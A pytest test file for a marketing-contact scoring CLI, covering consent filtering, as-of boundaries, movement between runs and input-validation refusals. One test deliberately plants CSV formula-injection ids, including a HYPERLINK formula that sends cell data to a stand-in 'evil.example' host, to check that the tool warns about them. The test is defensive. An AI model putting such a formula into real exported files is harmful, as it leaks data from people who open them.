"""The weekly scoring job (`funnelcast score`): every consented contact scored as the batch
pipeline scores it, written whole as Parquet or CSV, and the movement since the previous
scores."""

from __future__ import annotations

import copy
import datetime as dt
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow.parquet as pq
import pytest
from click.testing import Result
from conftest import Served, contact_body, in_zone
from polars.testing import assert_frame_equal
from typer.testing import CliRunner

from features.consent import restrict_to_consented
from features.engine import build_contact_features, first_event_times, leave_out_not_yet_active
from features.errors import InputError
from features.vocabulary import STAGE_MESSAGE, STAGES
from serving import cli, scoring
from serving.cli import app
from serving.runtime import ServiceSettings, load_scorer, registered_model
from serving.schemas import MAX_EVENTS_PER_CONTACT, ContactRequest
from serving.scoring import SCORE_COLUMNS, movement, other_model, previous_as_of, read_scores
from training.pyfunc import FeatureValueError

pytestmark = pytest.mark.slow

AS_OF = dt.datetime(2026, 4, 20, tzinfo=dt.UTC)


@pytest.fixture(scope="module")
def data(served: Served, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("scoring") / "data"
    folder.mkdir()
    pq.write_table(served.events, folder / "events.parquet")
    pq.write_table(served.contacts, folder / "contacts.parquet")
    return folder


@pytest.fixture(scope="module")
def listed_data(served: Served, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The served data with three more consented contacts listed without any event (leads
    imported into the CRM that never interacted): the simulated ones without events are all
    without consent."""
    folder = tmp_path_factory.mktemp("scoring") / "listed"
    folder.mkdir()
    contacts = pl.DataFrame(served.contacts)
    silent = contacts.head(3).with_columns(
        contact_id=pl.Series(["listed-only-1", "listed-only-2", "listed-only-3"]),
        marketing_consent=pl.lit(True),
    )
    pq.write_table(served.events, folder / "events.parquet")
    pl.concat([contacts, silent]).write_parquet(folder / "contacts.parquet")
    return folder


def _score(served: Served, *args: str) -> Result:
    return CliRunner().invoke(app, ["score", "--tracking-uri", served.store, *args])


@pytest.fixture(scope="module")
def scored(served: Served, data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("scores") / "scores-2026-04-20.parquet"
    result = _score(served, "--events", str(data), "--as-of", "2026-04-20", "--out", str(out))
    assert result.exit_code == 0, result.output
    return out


def test_every_consented_contact_is_scored_as_the_batch_pipeline_scores_it(
    served: Served, scored: Path
) -> None:
    """The scores equal the registered model's on the batch engine's features (which the
    service's tests hold equal to its online path), reasons included; contacts without
    consent are neither scored nor written."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    features = build_contact_features(
        served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    consented = restrict_to_consented(features, served.contacts)
    assert consented.contacts_without_consent > 0  # the data has some to leave out
    known = leave_out_not_yet_active(consented.kept, first_event_times(served.events), as_of=AS_OF)
    expected = model.predict_frame(known).with_columns(pl.col("contact_id").cast(str))
    got = pl.read_parquet(scored)
    assert got.columns == list(SCORE_COLUMNS)
    assert got.height == expected.height == known.height
    assert_frame_equal(got.select(expected.columns), expected, check_dtypes=False)
    refused = pl.from_arrow(served.contacts).filter(~pl.col("marketing_consent"))  # type: ignore[union-attr]
    assert not set(refused["contact_id"].cast(str)) & set(got["contact_id"])
    assert got["message_type"].to_list() == [STAGE_MESSAGE[s] for s in got["stage"]]
    assert set(got["model_name"]) == {"funnelcast"}
    assert set(got["model_version"]) == {"1"}
    assert set(got["as_of"]) == {AS_OF}
    assert set(got["horizon_days"]) == {int(model.horizon_days)}
    assert got["rules_stage"].to_list() == known["rules_stage"].cast(str).to_list()
    assert got["reason_1"].null_count() < got.height  # reasons were computed


def test_csv_scores_and_the_movement_since_the_previous_scores(
    served: Served, data: Path, scored: Path, tmp_path: Path
) -> None:
    """A CSV for the CRM, the same contacts; with --previous, the funnel beside it and where
    the previous contacts are now, counted as the movement function counts them."""
    now = pl.read_parquet(scored)
    awake = now.filter(pl.col("stage") != "dormant")["contact_id"].head(2).to_list()
    asleep = now.filter(pl.col("stage") == "dormant")["contact_id"].head(1).to_list()
    previous = pl.DataFrame(
        {
            "contact_id": [*awake, *asleep, "left-since"],
            "as_of": [dt.datetime(2026, 4, 13, tzinfo=dt.UTC)] * 4,
            "stage": ["dormant", "dormant", "advocacy", "awareness"],
        }
    )
    previous.write_parquet(tmp_path / "previous.parquet")
    out = tmp_path / "scores.csv"
    result = _score(
        served,
        "--events",
        str(data),
        "--as-of",
        "2026-04-20",
        "--out",
        str(out),
        "--previous",
        str(tmp_path / "previous.parquet"),
        "--no-reasons",
    )
    assert result.exit_code == 0, result.output
    csv = pl.read_csv(out, infer_schema=False)
    assert csv.columns == list(SCORE_COLUMNS)
    assert csv["contact_id"].to_list() == now["contact_id"].to_list()
    assert csv["stage"].to_list() == now["stage"].to_list()
    assert csv["reason_1"].null_count() == csv.height  # --no-reasons
    said = " ".join(result.output.split())
    assert "Where the previous scores' contacts are now" in said
    # dormant: 2 then, both moved deeper; advocacy: 1, moved back; awareness: 1, gone
    assert "│ dormant │ 2 │ 0 │ 2 │ 0 │ 0 │" in said
    assert "│ advocacy │ 1 │ 0 │ 0 │ 1 │ 0 │" in said
    assert "│ awareness │ 1 │ 0 │ 0 │ 0 │ 1 │" in said
    assert f"{now.height - 3:,} contacts scored now were not in the previous scores." in said
    # a stage of one contact is no leak to name
    assert "No stage of 30 contacts or more lost any to a shallower stage" in said
    assert csv["as_of"].unique().to_list() == ["2026-04-20T00:00:00Z"]  # as the service says it
    assert "formula" not in said  # no id starts as one
    assert "days before --as-of" not in said  # the events run to the day before it


def test_a_csv_says_how_many_ids_a_spreadsheet_would_run_as_formulas(
    served: Served, scored: Path, tmp_path: Path
) -> None:
    """Privacy review: ids such as `=HYPERLINK(...)` were written verbatim into the CRM's CSV
    without a word; a spreadsheet opening it runs them. They are the CRM's own ids, so they
    are kept as they are (a changed id would not match its contact on import), and said."""
    some = pl.read_parquet(scored)["contact_id"].head(4).to_list()
    formulas = {some[0]: '=HYPERLINK("http://evil.example/?x="&A2,"click")', some[1]: "@SUM(1+1)"}
    formulas[some[2]] = "-5"  # a signed number: a spreadsheet reads it as one, runs nothing
    formulas[some[3]] = "-1e3"
    folder = tmp_path / "data"
    folder.mkdir()
    for name, table in (("events", served.events), ("contacts", served.contacts)):
        renamed = pl.from_arrow(table).with_columns(  # type: ignore[union-attr]
            pl.col("contact_id").cast(pl.String).replace(formulas)
        )
        renamed.write_parquet(folder / f"{name}.parquet")
    out = tmp_path / "scores.csv"
    result = _score(
        served, "--events", str(folder), "--as-of", "2026-04-20", "--out", str(out), "--no-reasons"
    )
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "2 contact ids in the CSV start with = or @, or with + or - and are not a number" in said
    written = set(pl.read_csv(out, infer_schema=False)["contact_id"])
    assert set(formulas.values()) <= written


def test_the_movement_counts_each_previous_stage_by_where_its_contacts_are_now() -> None:
    previous = pl.DataFrame(
        {
            "contact_id": ["a", "b", "c", "d", "e", "f"],
            "stage": ["awareness", "awareness", "awareness", "intent", "intent", "dormant"],
        }
    )
    current = pl.DataFrame(
        {
            "contact_id": ["a", "b", "c", "d", "g"],
            "stage": ["awareness", "intent", "dormant", "consideration", "awareness"],
        }
    )
    moved = movement(current, previous)
    table = {
        m.stage: (m.then, m.stayed, m.deeper, m.back, m.not_scored_now) for m in moved.by_stage
    }
    assert table == {
        "dormant": (1, 0, 0, 0, 1),
        "awareness": (3, 1, 1, 1, 0),
        "intent": (2, 0, 0, 1, 1),
    }
    assert [m.stage for m in moved.by_stage] == ["dormant", "awareness", "intent"]  # funnel order
    assert moved.new == 1
    leak = moved.leak(min_contacts=1)
    assert leak is not None
    assert leak.stage == "intent"  # 1 of 2 > 1 of 3
    bigger = moved.leak(min_contacts=3)
    assert bigger is not None
    assert bigger.stage == "awareness"
    assert moved.leak() is None  # the default: stages of 30 contacts or more
    stayed = movement(previous, previous)
    assert stayed.leak(min_contacts=1) is None
    assert stayed.new == 0


def test_an_as_of_before_every_event_is_said(
    served: Served, data: Path, listed_data: Path, tmp_path: Path
) -> None:
    """Review: --as-of before the events scored every listed contact, nearly all dormant,
    without a word. Then only the contacts listed without any event are known (diff review:
    the others, unknown then, were scored too), and without them nobody is left to score."""
    out = tmp_path / "scores.parquet"
    args = ["--as-of", "2020-01-01", "--out", str(out), "--no-reasons"]
    result = _score(served, "--events", str(listed_data), *args)
    assert result.exit_code == 0, result.output
    events = pl.DataFrame(served.events)
    first = events["timestamp"].min()
    said = " ".join(result.output.split())
    assert f"--as-of 2020-01-01 is not after the first event ({first:%Y-%m-%d}):" in said
    assert "only contacts listed without any event are" in said
    listed = pl.read_parquet(listed_data / "contacts.parquet")
    consented = listed.filter(pl.col("marketing_consent"))
    silent = consented.join(events, on="contact_id", how="anti")
    assert silent.height == 3
    assert pl.read_parquet(out)["contact_id"].to_list() == sorted(silent["contact_id"])
    unknown = consented.height - silent.height
    assert f"{unknown:,} contacts whose first event comes after the snapshot are not scored" in said
    later = _score(served, "--events", str(listed_data), "--as-of", "2026-04-20", *args[2:])
    assert "is not after the first event" not in later.output
    # every consented contact of the simulator has events: nobody to score, and why
    alone = _score(served, "--events", str(data), *args)
    assert isinstance(alone.exception, InputError), alone.output
    told = " ".join(str(alone.exception).split())
    assert "no consented contact to score as of 2020-01-01" in told
    assert f"{unknown:,} whose first event comes after it not scored" in told


def test_a_contact_first_seen_at_or_after_as_of_is_not_scored_as_funnel_does_not_count_it(
    served: Served, listed_data: Path, tmp_path: Path
) -> None:
    """Review: score --as-of a past date scored and wrote listed contacts whose first event
    came after it (nobody knew them then), which funnel at that date does not count and
    training makes no row of. Now score writes the contacts funnel counts, in the engine's
    order as before, and says how many it left out in funnel's words and figure; a contact
    listed without any event is scored, as funnel counts it (dormant)."""
    as_of = "2026-02-01"
    out = tmp_path / "scores.parquet"
    args = ["--events", str(listed_data), "--as-of", as_of, "--out", str(out), "--no-reasons"]
    result = _score(served, *args)
    assert result.exit_code == 0, result.output
    funnel = CliRunner().invoke(app, ["funnel", "--data", str(listed_data), "--as-of", as_of])
    assert funnel.exit_code == 0, funnel.output
    moment = dt.datetime(2026, 2, 1, tzinfo=dt.UTC)
    events = pl.DataFrame(served.events)
    firsts = events.group_by("contact_id").agg(pl.col("timestamp").min())
    listed = pl.read_parquet(listed_data / "contacts.parquet")
    consented = listed.filter(pl.col("marketing_consent"))
    later = set(
        consented.join(firsts.filter(pl.col("timestamp") >= moment), on="contact_id")["contact_id"]
    )
    assert len(later) > 50  # the simulator's contacts arrive over the months
    got = pl.read_parquet(out)["contact_id"]
    assert not later & set(got)
    assert {"listed-only-1", "listed-only-2", "listed-only-3"} <= set(got)
    assert set(got) == set(consented["contact_id"]) - later
    assert got.is_sorted()  # the engine's order, as before
    said, shown = (" ".join(r.output.split()) for r in (result, funnel))
    gone = f"{len(later):,} contacts whose first event comes after the snapshot are not"
    assert f"{gone} scored." in said
    assert f"{gone} counted." in shown
    assert f"Wrote the scores of {got.len():,} contacts" in said
    assert f"{got.len():,} consented contacts shown" in shown
    refused = listed.height - consented.height
    assert f"{refused:,} without marketing consent were not scored" in said
    assert f"{refused:,} without marketing consent left out" in shown


def test_score_features_leaves_out_a_contact_whose_first_event_is_at_as_of_and_keeps_the_order(
    served: Served, batch: tuple[Any, pl.DataFrame]
) -> None:
    """The boundary, as funnel and training draw it: an event exactly at as_of (midnight) is
    not before it, so its contact was unknown; one a microsecond earlier was known. Contacts
    without any event in the log given stay, in their order."""
    model, kept = batch
    ids = kept["contact_id"].cast(pl.String).to_list()
    events = pl.DataFrame(
        {
            "contact_id": [ids[5], ids[7]],
            "timestamp": [AS_OF, AS_OF - dt.timedelta(microseconds=1)],
            "channel": ["web", "web"],
            "event_type": ["page_view", "page_view"],
        },
        schema_overrides={"timestamp": pl.Datetime("us", "UTC")},
    )
    result = scoring.score_features(
        model,
        kept,
        served.contacts,
        events=events,
        as_of=AS_OF,
        model_name="m",
        model_version="1",
        reasons=False,
    )
    assert result.contacts_not_yet_active == 1
    assert result.table["contact_id"].to_list() == [i for i in ids if i != ids[5]]


def test_a_write_into_the_folder_while_score_or_features_reads_it_leaves_no_output(
    served: Served, data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing locks a data folder against its readers: an ingest that swapped its tables in
    while `score` read the events, the contacts being read before or after, gave scores of two
    exports mixed. The files are watched from the start; a change is said, nothing written.
    A read that fails on the replaced file is said as the change too."""
    import shutil

    from features import engine
    from features.io import InputsChangedError, write_tables_atomic

    folder = tmp_path / "data"
    shutil.copytree(data, folder)
    real = engine.build_contact_features

    def ingest_meanwhile(*args: Any, **kwargs: Any) -> pl.DataFrame:
        built = real(*args, **kwargs)
        # the next export, as ingest writes it (the same rows: a change is a change)
        write_tables_atomic({"contacts": pq.read_table(folder / "contacts.parquet")}, folder)
        return built

    def fail_on_the_new_events(*args: Any, **kwargs: Any) -> pl.DataFrame:
        write_tables_atomic({"events": pq.read_table(folder / "events.parquet")}, folder)
        raise pl.exceptions.ComputeError("parquet: File out of specification")

    for built, changed in (
        (ingest_meanwhile, "contacts.parquet"),
        (fail_on_the_new_events, "events.parquet"),
    ):
        monkeypatch.setattr(engine, "build_contact_features", built)
        for command in ("score", "features"):
            out = tmp_path / f"{command}.parquet"
            result = CliRunner().invoke(
                app,
                [command, "--events", str(folder), "--as-of", "2026-04-20", "--out", str(out)]
                + (["--tracking-uri", served.store, "--no-reasons"] if command == "score" else []),
            )
            assert isinstance(result.exception, InputsChangedError), result.output
            told = " ".join(str(result.exception).split())
            assert f"{folder / changed} changed while it was read" in told
            assert "nothing was written: run again" in told
            assert not out.exists()
    monkeypatch.setattr(engine, "build_contact_features", real)
    out = tmp_path / "after.parquet"
    result = _score(served, "--events", str(folder), "--as-of", "2026-04-20", "--out", str(out))
    assert result.exit_code == 0, result.output  # read again once the write is done
    assert out.exists()


def test_the_default_as_of_is_the_day_after_the_last_event(
    served: Served, data: Path, tmp_path: Path
) -> None:
    out = tmp_path / "scores.parquet"
    result = _score(served, "--events", str(data), "--out", str(out), "--no-reasons")
    assert result.exit_code == 0, result.output
    last = pl.from_arrow(served.events)["timestamp"].max()  # type: ignore[index]
    day_after = dt.datetime.combine(last.date() + dt.timedelta(days=1), dt.time(), dt.UTC)
    assert set(pl.read_parquet(out)["as_of"]) == {day_after}
    said = " ".join(result.output.split())
    assert f"as of {day_after:%Y-%m-%d}" in said
    # the simulated log ended months ago: a stopped export would be scored silently (review)
    age = (dt.datetime.now(dt.UTC).date() - last.date()).days
    assert f"ends on {last:%Y-%m-%d}, {age} days ago: the scores are as of the day after" in said
    result = _score(served, "--events", str(data), "--out", str(out), "--as-of", "2026-04-20")
    assert result.exit_code == 0, result.output
    assert "days ago" not in result.output  # a date given is the day meant


def _previous(tmp_path: Path, frame: pl.DataFrame, name: str = "previous.parquet") -> Path:
    path = tmp_path / name
    frame.write_csv(path) if path.suffix == ".csv" else frame.write_parquet(path)
    return path


@pytest.mark.parametrize(
    ("previous", "out", "words"),
    [
        (None, "scores.txt", "scores are written as Parquet or CSV; give a file name ending in"),
        ("same", "scores.parquet", "is the --out file: this run would write over the scores"),
        (
            pl.DataFrame({"contact_id": ["a"]}),
            "scores.parquet",
            "has no stage column; give a scores file written by `funnelcast score`",
        ),
        (
            # a file whose columns were swapped: the refusal counts, it never shows a value
            pl.DataFrame({"contact_id": ["intent", "a"], "stage": ["jane@example.com", "intent"]}),
            "scores.parquet",
            "holds 1 row(s) whose stage is none of funnelcast's (dormant, awareness, "
            "consideration, intent, conversion, retention, advocacy) (row 0, counting from 0",
        ),
        (
            pl.DataFrame({"contact_id": ["b", "a", "a"], "stage": ["intent", "intent", "dormant"]}),
            "scores.parquet",
            "holds 2 row(s) of contacts listed twice or more (row 1,",
        ),
        (
            pl.DataFrame({"contact_id": ["a", "b"], "stage": ["intent", None]}),
            "scores.parquet",
            "holds 1 row(s) without a stage (row 1,",
        ),
        (
            pl.DataFrame({"contact_id": ["a", None], "stage": ["intent", "intent"]}),
            "scores.parquet",
            "holds 1 row(s) without a contact_id (row 1,",
        ),
        (
            pl.DataFrame({"contact_id": ["a", "b "], "stage": ["intent", "intent"]}),
            "scores.parquet",
            "1 contact id(s) in --previous",
        ),
        (
            pl.DataFrame({"contact_id": [1.0], "stage": ["intent"]}),
            "scores.parquet",
            "contact_id holds decimal numbers (1.0 is not the id 1)",
        ),
        (
            pl.DataFrame(
                {
                    "contact_id": ["a", "b"],
                    "stage": ["intent"] * 2,
                    "as_of": ["2026-04-06T00:00:00Z", "12/13/2026 00:00"],
                }
            ),
            "scores.parquet",
            # the first row, as the other refusals of rows name it (README review), never its
            # value: a file whose columns were swapped holds contact ids there (scoring review)
            "its as_of column holds 1 value(s) that are not ISO 8601 dates or moments (the "
            "first at row 1, counting from 0; write them as 2026-12-07 or 2026-12-07T00:00:00Z)",
        ),
        (
            pl.DataFrame({"contact_id": ["a", "b"], "stage": ["intent"] * 2, "as_of": ["a", "b"]}),
            "scores.parquet",
            "(the first at row 0, counting from 0;",
        ),
        *(
            (
                pl.DataFrame({"contact_id": ["a"], "stage": ["intent"], "as_of": [moment]}),
                "scores.parquet",
                "its as_of column holds 1 value(s) that are not ISO 8601 dates or moments",
            )
            # the shape of a moment, and none (review: these were a ValueError's traceback)
            for moment in ("2026-13-45", "2026-12-07T24:00", "2026-12-07Z", "2026-12-07 UTC")
        ),
        (
            pl.DataFrame({"contact_id": ["a"], "stage": ["intent"], "as_of": [1_800_000_000]}),
            "scores.parquet",
            "its as_of column holds values of type Int64",
        ),
        (
            pl.DataFrame({"contact_id": ["a"], "stage": ["intent"], "as_of": ["2026-04-20"]}),
            "scores.parquet",
            "holds scores as of 2026-04-20, not before this run's as_of 2026-04-20",
        ),
    ],
)
def test_unusable_options_are_refused_before_any_work(
    served: Served,
    data: Path,
    tmp_path: Path,
    previous: pl.DataFrame | str | None,
    out: str,
    words: str,
) -> None:
    args = ["--events", str(data), "--as-of", "2026-04-20", "--out", str(tmp_path / out)]
    if isinstance(previous, str):
        args += ["--previous", str(tmp_path / out)]
    elif previous is not None:
        args += ["--previous", str(_previous(tmp_path, previous))]
    result = _score(served, *args)
    assert isinstance(result.exception, InputError), result.output
    assert words in str(result.exception)
    if isinstance(previous, pl.DataFrame) and previous.schema["contact_id"] == pl.String:
        for value in previous["contact_id"]:  # never a value: it may be an id
            assert f"'{value}'" not in str(result.exception)
    assert not (tmp_path / out).exists()
    assert "Scoring with" not in result.output  # refused before the model was loaded


def test_no_consent_known_no_model_or_an_unknown_alias_is_refused(
    served: Served, data: Path, tmp_path: Path
) -> None:
    events_only = tmp_path / "events"
    events_only.mkdir()
    (events_only / "events.parquet").symlink_to(data / "events.parquet")
    out = tmp_path / "scores.parquet"
    result = _score(served, "--events", str(events_only), "--out", str(out))
    assert isinstance(result.exception, InputError)
    assert "no contact may be scored; give --contacts, or pass --assume-consent" in str(
        result.exception
    )
    result = _score(served, "--events", str(data), "--out", str(out), "--alias", "nope")
    assert isinstance(result.exception, InputError)
    assert "nope" in str(result.exception)
    result = CliRunner().invoke(
        app,
        [
            "score",
            "--events",
            str(data),
            "--out",
            str(out),
            "--tracking-uri",
            f"sqlite:///{tmp_path}/none/mlflow.db",
        ],
    )
    assert isinstance(result.exception, InputError)
    assert not out.exists()


def test_previous_scores_with_an_id_holding_a_control_character_are_refused(
    tmp_path: Path,
) -> None:
    """As an id with whitespace around it is (export review): compared with this run's, it
    would be a contact no longer scored, and this run's own a new one."""
    frame = pl.DataFrame({"contact_id": ["a", "b\rc"], "stage": ["intent", "intent"]})
    for name in ("s.csv", "s.parquet"):
        with pytest.raises(InputError) as refused:
            read_scores(_previous(tmp_path, frame, name))
        assert str(refused.value).startswith(
            f"1 contact id(s) in --previous {tmp_path / name} hold a control character (such "
            "as '\\r'; row 1, counting from 0, is one); "
        )


def test_previous_scores_of_several_runs_are_refused(tmp_path: Path) -> None:
    """Scores of two weeks merged in one file (each contact once) were read as one run: the
    movement mixed weeks, and a week after this run's passed for the week before (mutation
    review). Each row's as_of is the same moment written alike or not."""
    weeks = [dt.datetime(2026, 11, 30, tzinfo=dt.UTC), dt.datetime(2026, 12, 14, tzinfo=dt.UTC)]
    frame = pl.DataFrame({"contact_id": ["a", "b"], "stage": ["intent", "awareness"]})
    for name in ("s.csv", "s.parquet"):
        with pytest.raises(InputError) as refused:
            read_scores(_previous(tmp_path, frame.with_columns(as_of=pl.Series(weeks)), name))
        assert "1 row(s) of another as_of than the first row's (row 1, counting from 0" in str(
            refused.value
        )
    moments = ["2026-11-30T00:00:00Z", "2026-11-30T01:00:00+01:00"]  # one moment, two forms
    read = read_scores(_previous(tmp_path, frame.with_columns(as_of=pl.Series(moments)), "s.csv"))
    assert previous_as_of(read) == weeks[0]
    empty = frame.with_columns(as_of=pl.Series([weeks[0], None]))
    with pytest.raises(InputError, match=r"1 row\(s\) without an as_of \(row 1"):
        read_scores(_previous(tmp_path, empty, "s.parquet"))


def test_scores_read_back_from_csv_keep_their_moment(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "contact_id": [1, 2],
            "stage": list(STAGES[:2]),
            "as_of": [dt.datetime(2026, 4, 13, tzinfo=dt.UTC)] * 2,
        }
    )
    for name in ("s.csv", "s.parquet"):
        read = read_scores(_previous(tmp_path, frame, name))
        assert read["contact_id"].to_list() == ["1", "2"]  # ids as text, as the scores hold
        assert previous_as_of(read) == dt.datetime(2026, 4, 13, tzinfo=dt.UTC)


@pytest.mark.parametrize(
    "text",
    [
        "2026-04-13T02:00:00+02:00",
        "2026-04-13T02:00:00+0200",
        "2026-04-13T02:00:00+02",  # whole hours, as ingest and the service read them
        "2026-04-13T00:00:00z",  # a small z and t, as ingest reads them
        "2026-04-13t00:00:00Z",
        "2026-04-12 19:00-05:00",
        "2026-04-13",
        "2026-04-13 00:00:00 UTC",  # as BigQuery and Spark write, and ingest reads
        "2026-04-13T00:00:00.000UTC",
        "2026-04-13 02:00:00 +02:00",  # a space before the zone, as ingest reads it
        "2026-04-13 00:00 Z",
    ],
)
def test_an_earlier_as_of_is_read_in_every_offset_form_the_other_readers_take(
    tmp_path: Path, text: str
) -> None:
    frame = pl.DataFrame({"contact_id": ["a"], "stage": [STAGES[0]], "as_of": [text]})
    read = read_scores(_previous(tmp_path, frame, "s.csv"))
    assert previous_as_of(read) == dt.datetime(2026, 4, 13, tzinfo=dt.UTC)


def test_without_a_contacts_table_the_attributes_are_missing_values_and_said(
    served: Served, data: Path, tmp_path: Path
) -> None:
    """--assume-consent with no contacts table: the model's contact attributes are scored as
    missing, as the service scores an attribute not sent (before, the feature table "lacked
    the model's features" and nothing was scored)."""
    events_only = tmp_path / "events"
    events_only.mkdir()
    (events_only / "events.parquet").symlink_to(data / "events.parquet")
    out = tmp_path / "scores.parquet"
    args = ["--events", str(events_only), "--as-of", "2026-04-20", "--out", str(out)]
    result = _score(served, *args, "--assume-consent", "--no-reasons")
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    assert model.attribute_features  # the served model reads some
    listed = ", ".join(model.attribute_features)
    assert f"contacts table does not hold ({listed}): scored as missing values" in said
    got = pl.read_parquet(out)
    features = build_contact_features(
        served.events, None, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    assert got["contact_id"].to_list() == features["contact_id"].cast(str).to_list()
    blank = features.with_columns(
        pl.lit(None, pl.String if n in model.categories else pl.Float64).alias(n)
        for n in model.attribute_features
    )
    expected = model.predict_frame(blank, reasons=False)
    assert got["stage"].to_list() == expected["stage"].to_list()
    assert got["propensity"].to_list() == expected["propensity"].to_list()
    # as the service scores the same contacts' events sent without attributes
    scorer = load_scorer(ServiceSettings(tracking_uri=served.store))
    active = got.join(
        pl.from_arrow(served.events)  # type: ignore[arg-type]
        .filter(pl.col("timestamp") < AS_OF)
        .group_by(pl.col("contact_id").cast(str))
        .len(),
        on="contact_id",
    ).filter(pl.col("len").is_between(5, MAX_EVENTS_PER_CONTACT))
    for row in active.head(5).iter_rows(named=True):
        body = contact_body(served, row["contact_id"], last=MAX_EVENTS_PER_CONTACT)
        body = {k: v for k, v in body.items() if k != "attributes"} | {
            "as_of": "2026-04-20T00:00:00Z"
        }
        (answer,) = scorer.predict([ContactRequest.model_validate(body)])
        assert answer.stage == row["stage"]
        assert answer.propensity == pytest.approx(row["propensity"], abs=1e-12)


def test_an_attribute_of_another_kind_than_in_training_is_refused_naming_it(
    served: Served, tmp_path: Path
) -> None:
    """A category exported as numbers (a CRM's kids: 2 instead of "2") would be cast to "2.0",
    match none of the model's categories and be scored as missing, contact after contact,
    without a word; a number given as text cannot be read. Both are refused, as the service
    refuses them with a 400, naming the feature and what it should be."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    category = next(n for n in model.attribute_features if n in model.categories)
    contacts = pl.from_arrow(served.contacts)
    assert isinstance(contacts, pl.DataFrame)
    data = tmp_path / "data"
    data.mkdir()
    pq.write_table(served.events, data / "events.parquet")
    contacts.with_columns(pl.col(category).rank("dense").cast(pl.Int64)).write_parquet(
        data / "contacts.parquet"
    )
    out = tmp_path / "scores.parquet"
    args = ["--events", str(data), "--as-of", "2026-04-20", "--out", str(out), "--no-reasons"]
    result = _score(served, *args)
    assert result.exit_code != 0
    assert isinstance(result.exception, InputError)
    said = " ".join(str(result.exception).split())
    # (in the user's words: whole numbers in the contacts, Float64 in the feature table)
    assert f"feature '{category}' is numbers, but the model reads it as a category" in said
    assert "give it as text, as when the model was trained (an attribute: the contacts " in said
    assert not out.exists()
    # and a number the features hold as text
    features = build_contact_features(
        served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    number = next(n for n in model.attribute_features if n not in model.categories)
    with pytest.raises(
        InputError, match=f"feature '{number}' is text, but the model reads it as a number"
    ):
        model.predict_frame(features.with_columns(pl.col(number).cast(pl.String)))
    # a column with no value at all is every contact's missing value, whatever its type: a
    # listed attribute exported empty (the builders make it a Float64 of nulls), or a column
    # pandas read as NaN floats
    blank = features.with_columns(
        pl.lit(None, pl.Float64).alias(category), pl.lit(None, pl.String).alias(number)
    )
    expected = model.predict_frame(
        features.with_columns(
            pl.lit(None, pl.String).alias(category), pl.lit(None, pl.Float64).alias(number)
        ),
        reasons=False,
    )
    assert_frame_equal(model.predict_frame(blank, reasons=False), expected)
    pandas = blank.to_pandas()
    pandas[category] = float("nan")
    got = pl.from_pandas(model.predict(None, pandas))
    assert_frame_equal(got.select("stage", "propensity"), expected.select("stage", "propensity"))


def test_a_date_attribute_exported_as_text_is_refused_not_scored_as_missing(
    served: Served, tmp_path: Path
) -> None:
    """Review: `signup_date` as text became a text attribute of that name, its days_since_
    feature "not held" by the table, and every contact was scored with it missing, exit 0."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    assert model.attribute_dates
    date = model.attribute_dates[0]
    contacts = pl.from_arrow(served.contacts)
    assert isinstance(contacts, pl.DataFrame)
    data = tmp_path / "data"
    data.mkdir()
    pq.write_table(served.events, data / "events.parquet")
    contacts.with_columns(pl.col(date).cast(pl.String)).write_parquet(data / "contacts.parquet")
    out = tmp_path / "scores.parquet"
    args = ["--events", str(data), "--as-of", "2026-04-20", "--out", str(out), "--no-reasons"]
    result = _score(served, *args)
    assert isinstance(result.exception, InputError)
    said = " ".join(str(result.exception).split())
    # text, as the user wrote it (Categorical in the feature table)
    assert f"the contacts column '{date}' is text, but the model reads it as a date" in said
    assert f"the model reads it as a date (its feature days_since_{date})" in said
    assert not out.exists()


@pytest.fixture(scope="module")
def batch(served: Served) -> tuple[Any, pl.DataFrame]:
    """The registered model and the first 60 consented contacts' features, as `score` builds
    them."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    features = build_contact_features(
        served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    kept = restrict_to_consented(features, served.contacts).kept.head(60)
    return model, kept


def _with(frame: pl.DataFrame, name: str, value: object, row: int) -> pl.DataFrame:
    """``frame`` with ``value`` as feature ``name`` of one row (a stage column as text)."""
    column = pl.col(name).cast(pl.String) if isinstance(value, str) else pl.col(name)
    at_row = pl.int_range(pl.len()) == row
    return frame.with_columns(pl.when(at_row).then(pl.lit(value)).otherwise(column).alias(name))


@pytest.mark.parametrize(
    ("name", "value", "says"),
    [
        ("rules_stage", "bogus", "not one of its values"),
        ("email_click_count_7d", -5.0, "never negative"),
        ("days_since_last_event", -3.0, "never negative"),
        ("email_click_count_7d", 0.5, "is a whole number"),
        ("event_count_28d", 1e39, "beyond the float32 range"),
        ("days_since_last_event", float("inf"), "beyond the float32 range"),
        ("purchase_value_sum_all", float("-inf"), "beyond the float32 range"),
    ],
)
def test_the_batch_path_refuses_what_the_record_path_refuses_naming_the_row(
    batch: tuple[Any, pl.DataFrame], name: str, value: object, says: str
) -> None:
    """Review: a feature table's rules_stage 'bogus' was scored as missing, a negative or
    fractional count and a negative recency were scored, 1e39 clicks became inf (propensity
    1.0) and inf an OverflowError in the reasons, while the record path refused them all. The
    same value is now refused by both, with the record path's words, the batch naming the row
    (in the whole table when scored in chunks) and the fix."""
    model, kept = batch
    wrong = _with(kept, name, value, row=3)
    with pytest.raises(FeatureValueError) as by_record:
        model.encode_records(wrong.select(model.feature_names).to_dicts())
    for call in (
        lambda: model.predict_frame(wrong),
        lambda: model.predict_frame(wrong, reasons=False),
        lambda: model.predict(None, wrong.to_pandas()),  # MLflow's entry point
    ):
        with pytest.raises(FeatureValueError, match=says) as by_table:
            call()
        said = str(by_table.value)
        assert said.startswith(str(by_record.value))
        assert (by_record.value.row, by_record.value.feature) == (3, name)
        assert (by_table.value.row, by_table.value.feature) == (3, name)
